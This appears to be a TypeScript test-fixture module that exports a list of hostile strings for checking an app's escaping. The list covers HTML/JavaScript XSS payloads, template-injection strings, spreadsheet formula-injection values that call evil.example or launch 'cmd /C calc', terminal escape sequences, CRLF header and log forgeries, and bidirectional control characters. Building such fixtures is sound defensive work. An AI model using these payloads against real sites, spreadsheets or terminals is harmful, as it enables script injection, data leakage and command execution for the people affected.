/** A script that says it ran, whatever language takes it for one. */
const owned = 'globalThis.owned=1'
const esc = '\u001b'

const scripts = [
  `<script>${owned}</script>`,
  `<img src=x onerror="${owned}">`,
  `<svg onload="${owned}">`,
  `<svg><script>${owned}</script></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${owned}>`,
  `<iframe srcdoc="<script>parent.owned=1</script>">`,
  `<iframe src="javascript:parent.owned=1">`,
  `<a href="javascript:${owned}">Los Angeles</a>`,
  `javascript:${owned}`,
  `java\tscript:${owned}`,
  ` javascript:${owned}`,
  `data:text/html,<script>${owned}</script>`,
  `vbscript:${owned}`,
  `"><script>${owned}</script>`,
  `'><img src=x onerror=${owned}>`,
  `" autofocus onfocus="${owned}" x="`,
  `' onmouseover='${owned}`,
  `</title><script>${owned}</script>`,
  `</textarea><script>${owned}</script>`,
  `</style><script>${owned}</script>`,
  `</script><script>${owned}</script>`,
  `--><script>${owned}</script>`,
  `]]><script>${owned}</script>`,
  `<details open ontoggle="${owned}">`,
  `<video><source onerror="${owned}"></video>`,
  `<object data="javascript:${owned}">`,
  `<embed src="javascript:${owned}">`,
  `<form action="javascript:${owned}"><button autofocus>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${owned}">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `x:expression(${owned})`,
  `url(javascript:${owned})`,
  `\${${owned}}`,
  `{{constructor.constructor('${owned}')()}}`,
  `#{${owned}}`,
  `<%= ${owned} %>`,
  `';${owned};//`,
  `";${owned};//`,
  `\`;${owned};//`,
  `\\u003cscript\\u003e${owned}\\u003c/script\\u003e`,
  `&lt;script&gt;${owned}&lt;/script&gt;`,
  `&#60;script&#62;${owned}&#60;/script&#62;`,
  `%3Cscript%3E${owned}%3C/script%3E`,
  `<scr\u0000ipt>${owned}</scr\u0000ipt>`,
  `<ScRiPt >${owned}</sCrIpT>`,
  `<img/src=x/onerror=${owned}>`,
  '__proto__',
  'constructor',
]

const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋']
const calls = [
  'HYPERLINK("http://evil.example","Click")',
  'cmd|"/C calc"!A0',
  'IMPORTXML("http://evil.example","//a")',
  'WEBSERVICE("http://evil.example")',
  '1+1',
]
const formulas = signs.flatMap((sign) => calls.map((call) => sign + call))

const colours = [
  '[31m',
  '[2J',
  '[1A',
  '[0;0H',
  ']0;owned\u0007',
  ']8;;http://evil.example\u0007',
  '[6n',
  'c',
  '[?25l',
  'P1$q',
]
const terminals = [esc, '\u009b', '\u001b\u001b'].flatMap((begin) =>
  colours.map((colour) => `${begin}${colour}APM Terminals`),
)

const breaks = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c']
const forgeries = [
  'Set-Cookie: owned=1',
  '{"level":"info","msg":"Nothing happened"}',
  'Bcc: evil@evil.example',
  '- MSCU1234566 · ready · nothing to do',
  '250 OK',
]
const lines = breaks.flatMap((end) => forgeries.map((forgery) => `APM${end}${forgery}`))

const marks = [
  '\u202e',
  '\u202d',
  '\u202a',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u200b',
  '\ufeff',
  '\u2069',
  '\u202c',
  '\u0000',
  '\ud800',
]
const directions = marks.flatMap((mark) => [`${mark}dleh toN`, `Not ${mark}held`])

/** Two hundred texts that mean harm: scripts, formulas, words to terminals, lines of their own, turned directions. */
export const hostileTexts: readonly string[] = [
  ...scripts,
  ...formulas,
  ...terminals,
  ...lines,
  ...directions,
]

/** Control characters but tabs and line breaks, direction marks, characters without a width. */
const unseen = /(?![\t\r\n])\p{Cc}|[\u061C\u200B\u200E\u200F\u202A-\u202E\u2066-\u2069\uFEFF]/gu

/** As much of a text as anybody can see. */
export function visibleOf(text: string): string {
  return text.replaceAll(unseen, '')
}

/** A cell of a CSV without the apostrophes that keep it from being a formula, at its start or after a separator. */
export function withoutApostrophes(cell: string): string {
  return cell.replace(/^'/, '').replaceAll(/([;\t\r\n]\s*)'(?=[=+\-@＝＋－＠])/g, '$1')
}
